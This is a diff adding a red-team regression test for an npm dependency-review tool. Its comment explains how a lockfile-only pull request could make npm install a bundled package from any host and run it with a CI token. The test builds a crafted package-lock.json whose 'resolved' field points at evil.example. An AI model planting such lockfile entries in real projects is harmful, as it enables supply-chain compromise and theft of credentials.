@@ -1,0 +1,91 @@
+/**
+ * Red team R61 (base 1965d72): how the review reads what npm installs, against the npm that runs
+ * here (npm 11's arborist, loadVirtual, as the oracle).
+ *
+ * R61-1 (high): npm reads the project's own bundleDependencies from its package.json (arborist's
+ * loadVirtual takes the root node's package from package.json, never from the lock's root entry),
+ * and fetches what a package the project bundles bundles in turn from the lock's `resolved`
+ * (getBundler stops at the root: R58-1). The review refused a head package.json that bundles only
+ * when the pull request changed package.json, and lockedEngine read the project's bundle from the
+ * lock's root entry. So a base whose package.json bundles orgctl let a pull request changing
+ * package-lock.json alone (its root entry bundling nothing) install orgctl's yaml from any host,
+ * marked inBundle under orgctl: the head proof was accepted, the approval named nothing outside,
+ * and once merged the review job's npm ci installs it under orgctl, which runs it with its token.
+ */
+import { execFileSync } from 'node:child_process';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { judgeUpgradeCommits } from './base-lock-project.ts';
+import { ROOT, tempDir } from './helpers.ts';
+
+const SHA512 = `sha512-${'A'.repeat(86)}==`;
+const VERSION = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).version as string;
+const NEW = '9.0.0-test';
+const npmRoot = join(execFileSync('npm', ['root', '-g'], { encoding: 'utf8' }).trim(), 'npm');
+const Arborist = createRequire(join(npmRoot, 'package.json'))('@npmcli/arborist') as new (o: {
+  path: string;
+}) => {
+  loadVirtual(): Promise<{ inventory: Map<string, { inDepBundle: boolean }> }>;
+};
+
+/** A registry's orgctl at `version`, pinned by a sha512, with `fields`. */
+const fromRegistry = (version: string, fields: Record<string, unknown> = {}) => ({
+  version,
+  resolved: `https://registry.npmjs.org/orgctl/-/orgctl-${version}.tgz`,
+  integrity: SHA512,
+  ...fields,
+});
+
+/** A lock of `root` (its entry `lockRoot`, as the lock writes it) and `packages`. */
+const lockOf = (lockRoot: Record<string, unknown>, packages: Record<string, unknown>) =>
+  JSON.stringify({ ...lockRoot, lockfileVersion: 3, requires: true, packages: { '': lockRoot, ...packages } });
+
+/** What the npm here fetches from its own `resolved` at `path`, for a project of `files`. */
+async function npmFetches(files: Record<string, string>, path: string): Promise<boolean> {
+  const dir = tempDir('orgctl-r61-npm-');
+  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
+  const tree = await new Arborist({ path: dir }).loadVirtual();
+  const node = tree.inventory.get(path);
+  if (!node) throw new Error(`npm installs nothing at ${path}`);
+  return !node.inDepBundle;
+}
+
+describe("R61-1: the project's bundle is its package.json's, whatever the lock's root entry says (fails by design on 1965d72)", () => {
+  const bundling = { name: 'acme-org', version: '1.0.0', dependencies: { orgctl: `^${VERSION}` } };
+  const manifest = JSON.stringify({ ...bundling, bundleDependencies: ['orgctl'] }, null, 2);
+  const baseLock = lockOf(
+    { ...bundling, bundleDependencies: ['orgctl'] },
+    { 'node_modules/orgctl': fromRegistry(VERSION) },
+  );
+  /** Head's lock: orgctl NEW bundling yaml, from evil.example; its root entry bundling nothing. */
+  const headLock = lockOf(
+    { ...bundling, dependencies: { orgctl: `^${NEW}` } },
+    {
+      'node_modules/orgctl': fromRegistry(NEW, { dependencies: { yaml: '^2.9.1' }, bundleDependencies: ['yaml'] }),
+      'node_modules/orgctl/node_modules/yaml': {
+        version: '2.9.1',
+        resolved: 'https://evil.example/yaml-2.9.1.tgz',
+        integrity: SHA512,
+        inBundle: true,
+      },
+    },
+  );
+  const YAML = 'node_modules/orgctl/node_modules/yaml';
+
+  it("the oracle: npm fetches orgctl's yaml from its resolved (evil.example), the project bundling orgctl", async () => {
+    expect(await npmFetches({ 'package.json': manifest, 'package-lock.json': headLock }, YAML)).toBe(true);
+  });
+
+  it('an upgrade changing package-lock.json alone, base bundling orgctl: refused, the bundle named', () => {
+    const r = judgeUpgradeCommits(
+      NEW,
+      { 'package.json': manifest, 'package-lock.json': baseLock },
+      { 'package.json': manifest, 'package-lock.json': headLock },
+      ['package-lock.json'],
+    );
+    expect(r.code).toBe(1);
+    expect(r.engine).toMatch(/❌.*bundleDependencies/);
+  });
+});
